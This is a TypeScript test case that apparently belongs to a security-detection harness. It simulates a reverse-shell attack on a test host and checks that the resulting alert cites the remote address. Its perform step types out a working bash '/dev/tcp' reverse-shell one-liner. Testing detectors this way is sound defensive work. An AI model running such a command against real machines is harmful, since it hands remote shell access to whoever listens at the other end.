/** A shell that connects itself to an address which is this host's own loopback, typed at a prompt. */
import type { Attack } from "../attack.ts";

export const attack = {
  alert: "reverse-shell",
  needs: ["root", "audit", "sshd"],
  perform: async (host) => void (await host.type(`bash -i >& /dev/tcp/${host.remote}/${host.downloads.port} 0>&1`)),
  expect: (finding, host) =>
    finding.evidences.some((e) => e.dst_endpoint?.ip === host.remote || e.process?.cmd_line?.includes(host.remote)),
} satisfies Attack;
